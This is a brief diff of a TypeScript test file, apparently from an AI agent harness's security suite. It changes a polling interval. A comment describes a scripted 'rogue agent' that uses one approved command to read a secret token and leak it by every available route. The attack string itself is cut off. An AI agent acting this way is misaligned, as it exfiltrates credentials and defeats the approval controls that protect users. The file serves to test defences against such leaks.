@@ -8,7 +8,7 @@ import { newFolder } from "./support/repository.ts";
 import { newRogueAgent } from "./support/rogue-agent.ts";
 import { bash, newScriptedModel } from "./support/scripts.ts";
 
-const wait = { timeout: 40_000, interval: 50 };
+const wait = { timeout: 40_000, interval: 200 };
 
 /** What an agent can do with one approved command: it reads the token and answers its next question, in every way it can find. */
 const attack = `
